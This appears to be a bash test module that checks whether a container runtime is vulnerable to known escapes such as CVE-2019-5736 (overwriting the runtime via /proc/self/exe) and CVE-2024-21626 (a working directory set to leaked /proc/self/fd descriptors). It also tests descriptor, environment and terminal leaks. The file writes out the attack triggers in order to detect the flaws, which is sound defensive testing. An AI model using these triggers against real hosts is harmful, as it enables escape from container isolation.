# SPDX-License-Identifier: Apache-2.0
# shellcheck shell=bash
#
# Processes of the runtime, their descriptors and their program, seen by the container.

# A copy of the runtime, so that a successful attack hits nothing else.
own_copy()
{
	cp "$RUNTIME" "$WORK/$(basename "$RUNTIME")"
	RUNTIME=$WORK/$(basename "$RUNTIME")
	SUM=$(sha256sum < "$RUNTIME")
}

check_copy()
{
	[[ $(sha256sum < "$RUNTIME") == "$SUM" ]] || vulnerable "the runtime's program was overwritten"
	RUNTIME=$WAS
}

with_own_copy()
{
	local WAS=$RUNTIME

	own_copy
	"$@"
	check_copy
}

# exe_of_exec CAPABILITY... -- COMMAND...: the container writes to the program of whoever enters
exe_of_exec()
{
	local caps=(CAP_SYS_PTRACE CAP_DAC_OVERRIDE)

	while [[ $1 != -- ]]; do
		caps+=("$1")
		shift
	done
	shift
	capability_add "${caps[@]}"
	args probe exe
	start_it || return
	wait_for 5 test -e "$ROOTFS/tmp/up"
	for _ in {1..10}; do
		exec_it "$ID" "$@"
	done
	sleep 0.2
	[[ ! -e $ROOTFS/tmp/owned ]] || vulnerable "the runtime's program can be written to"
	remove_it
	STATUS=0
}

attack cve_2019_5736_args 'exec of /proc/self/exe, while the container writes to it'
cve_2019_5736_args() { with_own_copy exe_of_exec -- /proc/self/exe --version; }

attack cve_2019_5736_script 'exec of a script whose interpreter is /proc/self/exe'
cve_2019_5736_script()
{
	printf '#!/proc/self/exe\n' > "$ROOTFS/run.sh"
	chmod 755 "$ROOTFS/run.sh"
	with_own_copy exe_of_exec -- /run.sh
}

attack cve_2019_5736_exec 'a process of the container writes to the program of exec'
cve_2019_5736_exec() { with_own_copy exe_of_exec -- true; }

attack cve_2019_5736_admin 'the same, and may change mounts'
cve_2019_5736_admin() { with_own_copy exe_of_exec CAP_SYS_ADMIN -- /proc/self/exe; }

attack cve_2016_9962 'a process of the container looks into exec'
cve_2016_9962() { watch_fds exec_it "$ID" true; }

attack cve_2016_9962_label 'the same, with a label to be set'
cve_2016_9962_label() { watch_fds exec_it --apparmor runlet-attack "$ID" true; }

exec_with_log()
{
	: | timeout 20 "$RUNTIME" --root "$ROOT" --log "$WORK/log" exec "$ID" true 2>&1 | cat > /dev/null
}

attack cve_2016_9962_log 'the same, with a log'
cve_2016_9962_log() { watch_fds exec_with_log; }

attack caller_environment "a process of the container reads the environment of exec's caller"
caller_environment()
{
	capability_add CAP_SYS_PTRACE
	script 'exec probe env > /tmp/seen'
	start_it || return
	wait_for 5 test -e "$ROOTFS/tmp/up"
	for _ in {1..10}; do
		SECRET_OF_THE_HOST=1 exec_it "$ID" true
	done
	remove_it
	STATUS=0
	[[ ! -s $ROOTFS/tmp/seen ]] || vulnerable "it is in $(head -n 1 "$ROOTFS/tmp/seen")"
}

# watch_fds COMMAND...: what the container sees of the host while this runs, ten times
watch_fds()
{
	capability_add CAP_SYS_PTRACE
	script 'exec probe fds > /tmp/seen'
	start_it || return
	wait_for 5 test -e "$ROOTFS/tmp/up"
	for _ in {1..10}; do
		"$@"
	done
	remove_it
	STATUS=0
	# The container's own descriptors: its output.
	sort -u "$ROOTFS/tmp/seen" | grep -v '^/tmp/seen$' > "$WORK/found" || :
	[[ ! -s $WORK/found ]] || vulnerable "sees $(head -n 1 "$WORK/found") open"
}

attack cve_2017_5226 "the container types into its caller's terminal"
cve_2017_5226()
{
	script 'probe tty > /root/out 2>&1'
	in_terminal "$RUNTIME" --root "$ROOT" run --bundle "$BUNDLE" "$ID"
	[[ ! -s $ROOTFS/root/out ]] || vulnerable "it $(head -n 1 "$ROOTFS/root/out")"
}

attack cve_2016_10124 "a process that exec starts types into its caller's terminal"
cve_2016_10124()
{
	args sleep 100
	start_it || return
	in_terminal "$RUNTIME" --root "$ROOT" exec "$ID" sh -c 'probe tty > /root/out 2>&1'
	[[ ! -s $ROOTFS/root/out ]] || vulnerable "it $(head -n 1 "$ROOTFS/root/out")"
}

# Three directories of the host are inherited, beside what the runtime has open itself.
with_leaks()
{
	exec 8< "$HOST" 9< / 11< /sys/fs/cgroup
	"$@"
	exec 8<&- 9<&- 11<&-
}

# Each is tried from inside: is there a file of the host above or below?
readonly LOOK='ls -A . .. ../.. ; cat canary ../canary'
readonly HOST_HAS='^(lost\+found|boot|memory|cgroup.procs|unified)$|secret-of-the-host'

attack cve_2024_21626 'the working directory is a leaked descriptor'
cve_2024_21626()
{
	local n

	for n in {3..16}; do
		config '.process.cwd = "/proc/self/fd/" + $n' --arg n "$n"
		script "$LOOK"
		with_leaks run_it
		! grep -qE "$HOST_HAS" "$OUT" || vulnerable "descriptor $n leads to the host"
		[[ -z $VERDICT ]] || return
		[[ $STATUS -eq 0 ]] || remove_it
	done
	STATUS=0
}

attack cve_2024_21626_exec 'exec --cwd is a leaked descriptor'
cve_2024_21626_exec()
{
	local n

	args sleep 100
	start_it || return
	for n in {3..16}; do
		with_leaks exec_it --cwd "/proc/self/fd/$n" "$ID" sh -c "$LOOK"
		! grep -qE "$HOST_HAS" "$OUT" || vulnerable "descriptor $n leads to the host"
	done
	STATUS=0
}

attack cve_2024_21626_program 'the program is behind a leaked descriptor'
cve_2024_21626_program()
{
	local n

	cp "$(realpath "$(command -v busybox)")" "$HOST/busybox"
	FINGERPRINT=$(fingerprint)
	for n in {3..16}; do
		args "/proc/self/fd/$n/busybox" echo secret-of-the-host
		with_leaks run_it
		! has "$OUT" secret-of-the-host || vulnerable "descriptor $n leads to the host"
		[[ -z $VERDICT ]] || return
		[[ $STATUS -eq 0 ]] || remove_it
	done
	STATUS=0
}

attack cve_2024_21626_symlink 'the working directory is a symlink to leaked descriptors'
cve_2024_21626_symlink()
{
	local n

	for n in {3..16}; do
		ln -sfn "/proc/self/fd/$n/../" "$ROOTFS/cwd"
		config '.process.cwd = "/cwd"'
		script "$LOOK"
		with_leaks run_it
		! grep -qE "$HOST_HAS" "$OUT" || vulnerable "descriptor $n leads to the host"
		[[ -z $VERDICT ]] || return
		[[ $STATUS -eq 0 ]] || remove_it
	done
	STATUS=0
}

attack leaked_descriptors "the program and exec inherit what the runtime's caller had open"
leaked_descriptors()
{
	args sh -c 'ls /proc/self/fd'
	with_leaks run_it
	[[ $(grep -cE '^([89]|1[0-9])$' "$OUT") -eq 0 ]] || vulnerable "they are open in the program"
	remove_it
	args sleep 100
	start_it || return
	with_leaks exec_it "$ID" ls /proc/self/fd
	[[ $(grep -cE '^([89]|1[0-9])$' "$OUT") -eq 0 ]] || vulnerable "they are open in what exec runs"
}
